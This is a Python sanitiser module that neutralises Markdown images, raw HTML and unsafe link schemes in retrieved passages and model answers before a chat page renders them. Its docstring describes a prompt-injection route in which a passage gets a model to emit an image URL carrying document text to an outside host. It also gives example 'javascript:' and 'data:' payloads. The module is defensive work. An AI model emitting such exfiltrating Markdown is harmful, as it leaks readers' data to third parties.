"""Markdown from documents and models made inert before a page renders it.

A passage is text anyone could have written, and a model's answer can repeat what a passage told it
to write (passages sit in the prompt). Rendered as Markdown, such text could make the reader's browser
fetch another host the moment an answer is opened (an image: ``![x](http://host/?q=<document text>)``,
``<img src=...>``) or run script on a click (``[t](javascript:...)``, a ``data:`` URL). So every text
from a document or a model is passed through :func:`neutralise` (or a :class:`Neutraliser`, for a
stream) before the chat, the side view or the ``/v1`` content shows it:

- images are never images: ``![`` becomes ``!⁠[`` and the image's ``](`` / ``][`` is split the same
  way, so ``![x](http://host/a.png)`` reads as that text (the URL may show as a link: a click, not a fetch);
- a link or a reference definition (``[t](dest)``, ``[r]: dest``) keeps working only when its
  destination is ``http://``, ``https://`` or ``mailto:`` (plain links are clicks, and the reader sees
  where they go); any other (``javascript:``, ``data:``, ``vbscript:``, ``file:``, entity-encoded,
  relative) is split into plain text;
- raw HTML is never HTML: ``<`` followed by a letter, ``/``, ``!`` or ``?`` (a tag, a comment, an
  autolink such as ``<javascript:...>``) gets the same split; the tag then shows as the text it is (an
  ``<https://...>`` autolink too: its URL still shows, and the page may link it).

The split is a WORD JOINER (U+2060): invisible, not whitespace, and so it breaks the Markdown syntax
without changing what the reader sees (U+200B would do too, but Chainlit's page draws a blinking cursor
for it). It is inserted everywhere, code spans and code blocks included: knowing for sure where a
renderer's code block ends needs its whole block parser (lists, quotes, indentation), and a wrong guess
would leave live Markdown unescaped; the cost is an invisible character in copied code such as
``a<b``. Ordinary prose, citations like ``[1]``, emphasis, lists, tables and code read as before.

Text inside a code block that the page itself adds (Chainlit wraps a ``cl.Text`` with a language, and a
step's output, in a ``` fence) needs only :func:`code_text`: no line of it may close that fence.

Everything runs in one pass, in time linear in the text (no backtracking regex), and a stream holds
back at most a few dozen characters while a decision waits for the next ones.
"""
from __future__ import annotations

import re

JOINER = "\u2060"  # WORD JOINER
SAFE_SCHEMES = ("http://", "https://", "mailto:")
_WINDOW = 8  # the longest safe scheme
_SPACE_CAP = 32  # spaces allowed before a destination; more and it is refused (rather than held back)
# what may need a split: "![", "<" + a tag's first character, any bracket; a "!" or "<" last waits
_TRIGGER = re.compile(r"!(?=\[|\Z)|<(?=[A-Za-z/!?]|\Z)|[\[\]\n\r]")
_FENCE_LINE = re.compile(r"^(?=[ \t]*(?:```|~~~))", re.M)
_NEWLINES = re.compile(r"\r\n?")


def _scheme(s: str, j: int, end: bool) -> bool | None:
    """Whether s[j:] starts with a safe scheme: True, False, or None when the text so far cannot tell."""
    head = s[j:j + _WINDOW].lower()
    if head.startswith(SAFE_SCHEMES):
        return True
    if not end and len(head) < _WINDOW and any(p.startswith(head) for p in SAFE_SCHEMES):
        return None
    return False


def _destination(s: str, j: int, end: bool) -> tuple[bool | None, int]:
    """A link destination at s[j] (after ``](`` or ``]:``): (safe?, where its scheme starts). Spaces and
    an opening ``<`` may come first; a line break before the destination is refused (a split link
    only reads differently)."""
    start = j
    while j < len(s) and s[j] in " \t":
        j += 1
        if j - start > _SPACE_CAP:
            return False, j
    if j < len(s) and s[j] == "<":
        j += 1
    elif j == len(s) and not end:
        return None, j  # a "<" may still come
    return _scheme(s, j, end), j


class Neutraliser:
    """:func:`neutralise` for a text that arrives in pieces (streamed tokens): ``feed`` returns what can
    be shown now, holding back a short undecided tail (a ``!``, ``<`` or ``]`` whose next characters
    decide); ``flush`` returns that tail at the end of the text. Text fed after a flush continues it
    safely (a ``!`` sent by the flush still gets its split when a ``[`` follows)."""

    def __init__(self) -> None:
        self._held = ""  # undecided text, starting at a trigger
        self._carry = ""  # a trigger character sent by flush(); the next text decides what follows it
        self._brackets: list[bool] = []  # the "[" open on this line: True when it opened an image
        self._image = False  # the next "[" follows "!"

    def feed(self, text: str) -> str:
        return self._run(text, end=False)

    def flush(self) -> str:
        return self._run("", end=True)

    def _run(self, text: str, end: bool) -> str:
        carry, self._carry = self._carry, ""
        s = carry + self._held + text
        out, done = self._scan(s, end)
        if carry and done == 0:  # still undecided: it stays carried (it was sent)
            self._carry, self._held = carry, s[len(carry):]
            return ""
        self._held = s[done:]
        return out[len(carry):]  # the carried character was sent already

    def _scan(self, s: str, end: bool) -> tuple[str, int]:
        """(the output for s up to ``done``, done): s[done:] waits for more text (never when ``end``)."""
        out: list[str] = []
        pos, n = 0, len(s)
        while True:
            m = _TRIGGER.search(s, pos)
            if m is None:
                out.append(s[pos:])
                return "".join(out), n
            k = m.start()
            out.append(s[pos:k])
            c = s[k]
            if c in "\n\r":  # brackets are matched within a line (enough for how an image reads)
                out.append(c)
                self._brackets.clear()
                self._image, pos = False, k + 1
                continue
            if c == "[":
                self._brackets.append(self._image)
                self._image, pos = False, k + 1
                out.append(c)
                continue
            if k + 1 == n:  # "!", "<" or "]" last: the next character decides
                if not end:
                    return "".join(out), k
                self._carry = c
                out.append(c)
                return "".join(out), n
            step = self._decide(s, k, end)
            if step is None:
                return "".join(out), k
            text, pos = step
            out.append(text)

    def _decide(self, s: str, k: int, end: bool) -> tuple[str, int] | None:
        """(output, next position) for the trigger "!", "<" or "]" at s[k] (s[k + 1] exists), or None
        when the text so far cannot tell."""
        c, nxt = s[k], s[k + 1]
        if c == "!":  # "![" (_TRIGGER)
            self._image = True
            return "!" + JOINER, k + 1
        if c == "<":  # a tag, comment or autolink starts (_TRIGGER)
            return "<" + JOINER, k + 1
        image = bool(self._brackets) and self._brackets[-1]  # c == "]"
        if nxt not in "(:" and not (image and nxt == "["):
            if self._brackets:
                self._brackets.pop()
            return "]", k + 1
        safe, j = (False, k + 2) if image else _destination(s, k + 2, end)
        if safe is None:
            return None
        if self._brackets:
            self._brackets.pop()
        if safe:  # "](" or "]:", spaces and a "<" go out unchanged (that "<" is no tag)
            return s[k:j], j
        return "]" + JOINER, k + 1


def neutralise(text: str) -> str:
    """``text`` (Markdown from a document or a model) with no image, no raw HTML and no link other than
    http(s) / mailto left in it; it reads the same."""
    n = Neutraliser()
    return n.feed(text) + n.flush()


def code_text(text: str) -> str:
    """``text`` for a code block the page wraps around it (a ``cl.Text`` with a language, a step's
    output): a line that would close the block (``` or ~~~ after up to any indentation) starts with
    an invisible WORD JOINER, so the whole text stays code; line ends become ``\\n``."""
    return _FENCE_LINE.sub(JOINER, _NEWLINES.sub("\n", text))
